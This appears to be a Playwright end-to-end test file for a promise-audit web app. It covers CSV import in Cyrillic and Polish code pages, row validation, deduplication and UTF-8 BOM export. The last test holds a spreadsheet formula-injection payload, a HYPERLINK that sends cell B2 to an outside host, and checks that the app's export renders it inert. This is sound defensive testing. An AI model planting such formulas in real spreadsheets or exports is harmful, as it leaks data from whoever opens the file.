import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test, type Page } from './support/test';
import { createAuditThroughUi, openApp } from './support/app';

const fixture = (name: string) => path.join(import.meta.dirname, '../fixtures/csv', name);

async function chooseCsv(page: Page, kind: 'Promises' | 'Touchpoints', name: string) {
  await page.getByRole('button', { name: 'Import CSV…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import from CSV' });
  await dialog.getByRole('radio', { name: new RegExp(`^${kind}`) }).check();
  const chooser = page.waitForEvent('filechooser');
  await dialog.getByRole('button', { name: 'Choose a CSV file…' }).click();
  await (await chooser).setFiles(fixture(name));
  return dialog;
}

test('a semicolon-separated Windows-1251 file with Cyrillic text is imported whole and survives a reload', async ({
  page,
}) => {
  await openApp(page);
  await createAuditThroughUi(page, 'Магазин у дома', 'Аудит обещаний');
  await page.keyboard.press('Control+2');
  const dialog = await chooseCsv(page, 'Promises', 'promises-win1251-semicolon.csv');
  await expect(dialog.getByLabel('Encoding')).toHaveValue('windows-1251');
  await expect(dialog.getByLabel('Separator')).toHaveValue(';');
  await expect(dialog.getByRole('region', { name: 'The first rows' })).toContainText(
    'Очередь на кассе не длиннее 5 минут',
  );
  await expect(dialog.getByRole('status')).toContainText(
    'Ready: 2 journey stages, 3 channels, 3 touchpoints, 4 promises.',
  );
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(dialog).toBeHidden();

  await page.getByRole('tab', { name: 'Promises' }).click();
  await expect(page.getByText('Promises: 4 of 4')).toBeVisible();
  const grid = page.getByRole('grid', { name: 'Promises' });
  await expect(
    grid.getByRole('row').filter({ hasText: 'Отвечаем в чате; быстро и по делу' }),
  ).toContainText('Чат поддержки');
  await page.reload();
  await expect(page.locator('#root')).toHaveAttribute('data-app-state', 'ready');
  await expect(page.getByText('Promises: 4 of 4')).toBeVisible();
  await expect(
    grid.getByRole('row').filter({ hasText: 'Кассир всегда вежлив и улыбается' }),
  ).toBeVisible();

  // The same file again adds nothing.
  const again = await chooseCsv(page, 'Promises', 'promises-win1251-semicolon.csv');
  await expect(again.getByRole('status')).toContainText(
    'Everything in this file is already in the audit.',
  );
  await expect(again.getByRole('button', { name: 'Import', exact: true })).toBeDisabled();
});

test('a client’s Windows-1251 register with sources in its own words imports with every text kept', async ({
  page,
}) => {
  await openApp(page);
  await createAuditThroughUi(page, 'Магазин у дома', 'Аудит обещаний');
  await page.keyboard.press('Control+2');
  const dialog = await chooseCsv(page, 'Promises', 'promises-win1251-free-sources.csv');
  await expect(dialog.getByLabel('Encoding')).toHaveValue('windows-1251');
  // Nothing refuses a row: the unusable optional values are warnings, said by line.
  await expect(dialog.getByRole('alert')).toHaveCount(0);
  const warnings = dialog.getByRole('region', { name: 'Values kept as text or left empty' });
  await expect(warnings).toContainText('2 values could not be used as written.');
  await expect(warnings).toContainText('Line 4: “Belief” is “высокая”');
  await expect(warnings).toContainText('Line 5: “Importance” is “9”');
  await expect(dialog.getByRole('status')).toContainText('5 promises');
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(dialog).toBeHidden();

  await page.getByRole('tab', { name: 'Promises' }).click();
  await expect(page.getByText('Promises: 5 of 5')).toBeVisible();
  await page.getByRole('button', { name: 'Columns' }).click();
  await page.getByRole('checkbox', { name: 'Source', exact: true }).check();
  await page.getByRole('checkbox', { name: 'Source’s words' }).check();
  await page.keyboard.press('Escape');
  const grid = page.getByRole('grid', { name: 'Promises' });
  const row = (statement: string) => grid.getByRole('row').filter({ hasText: statement });
  await expect(row('Без очередей на кассе')).toContainText('Слоган «Без очередей»');
  await expect(row('Без очередей на кассе')).toContainText('Advertising');
  await expect(row('Цены как в каталоге')).toContainText('Каталог');
  await expect(row('Цены как в каталоге')).toContainText('Other');
  await expect(row('Доставка на следующий день')).toContainText('Закон и реклама');
  await expect(row('Ответим за минуту')).toContainText('в договоре оферты');
  await expect(row('Ответим за минуту')).toContainText('Contract');
  // A cell that only names the kind sets the kind and keeps no words.
  await expect(row('Вежливые операторы')).toContainText('Advertising');
  await page.reload();
  await expect(page.locator('#root')).toHaveAttribute('data-app-state', 'ready');
  await expect(row('Цены как в каталоге')).toContainText('Каталог');
});

test('a row without its statement refuses the file; unusable optional values are only warnings', async ({
  page,
}) => {
  await openApp(page);
  await page.keyboard.press('Control+2');
  await expect(page.getByText('Promises: 47 of 47')).toBeVisible();
  const dialog = await chooseCsv(page, 'Promises', 'promises-bad-rows.csv');
  const problems = dialog.getByRole('alert');
  await expect(problems).toContainText('1 problem');
  await expect(problems).toContainText('Line 6: “Statement” is empty');
  const warnings = dialog.getByRole('region', { name: 'Values kept as text or left empty' });
  await expect(warnings).toContainText(
    'Line 4: “Importance” is “7”, not a whole number from 1 to 5: 3 is used',
  );
  await expect(warnings).toContainText('Line 7: “Belief” is “9”');
  await expect(dialog.getByRole('button', { name: 'Import', exact: true })).toBeDisabled();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('Promises: 47 of 47')).toBeVisible();
});

test('Polish touchpoints in Windows-1250 are imported; the register exports as UTF-8 CSV with a BOM', async ({
  page,
}) => {
  await openApp(page);
  await createAuditThroughUi(page, 'Sklep', 'Audyt');
  await page.keyboard.press('Control+2');
  const dialog = await chooseCsv(page, 'Touchpoints', 'touchpoints-win1250-semicolon.csv');
  await expect(dialog.getByLabel('Encoding')).toHaveValue('windows-1250');
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await page.getByRole('tab', { name: 'Journey' }).click();
  await expect(page.getByRole('rowheader', { name: /Infolinia/ })).toBeVisible();
  await expect(page.getByRole('region', { name: 'Channels' }).getByText('Kanał')).toHaveCount(0);

  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export touchpoints (CSV)' }).click();
  const file = await (await download).path();
  const bytes = readFileSync(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(bytes.toString('utf8')).toContain(
    'Zakup,Strona internetowa,Koszyk,E-commerce,"Zamówienie online, płatność"',
  );
});

test('a statement that starts with “=” exports as an inert cell and imports back as it was', async ({
  page,
}) => {
  const formula = '=HYPERLINK("http://example.com/?leak="&B2, "Details")';
  await openApp(page);
  await createAuditThroughUi(page, 'Formula Retail', 'Injection audit');
  await page.keyboard.press('Control+2');
  await chooseCsv(page, 'Promises', 'promises-utf8-bom-comma.csv');
  const first = page.getByRole('dialog', { name: 'Import from CSV' });
  await first.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(first).toBeHidden();

  // The statement is typed into the register as a person would.
  const grid = page.getByRole('grid', { name: 'Promises' });
  await grid.focus();
  await page.keyboard.press('Control+Enter');
  const draft = page.getByRole('group', { name: 'New promise' });
  await draft.getByLabel('Promise').fill(formula);
  await page.keyboard.press('Enter');
  await expect(grid.getByRole('row').filter({ hasText: formula })).toHaveCount(1);
  await page.keyboard.press('Escape');

  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export promises (CSV)' }).click();
  const file = await (await download).path();
  const text = readFileSync(file, 'utf8');
  // An apostrophe before it, the whole cell quoted: a spreadsheet shows it as text.
  expect(text).toContain(`,"'=HYPERLINK(""http://example.com/?leak=""&B2, ""Details"")",`);
  expect(text).not.toMatch(/(^|,)=HYPERLINK/m);

  // Into a new audit: the statement comes back exactly, without the apostrophe.
  await createAuditThroughUi(page, 'Formula Retail', 'Second audit');
  await page.keyboard.press('Control+2');
  await page.getByRole('button', { name: 'Import CSV…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import from CSV' });
  await dialog.getByRole('radio', { name: /^Promises/ }).check();
  const chooser = page.waitForEvent('filechooser');
  await dialog.getByRole('button', { name: 'Choose a CSV file…' }).click();
  await (await chooser).setFiles(file);
  await dialog.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(dialog).toBeHidden();
  await page.getByRole('tab', { name: 'Promises' }).click();
  const row = grid.getByRole('row').filter({ hasText: formula });
  await expect(row).toHaveCount(1);
  await expect(grid.getByRole('row').filter({ hasText: `'${formula}` })).toHaveCount(0);
});
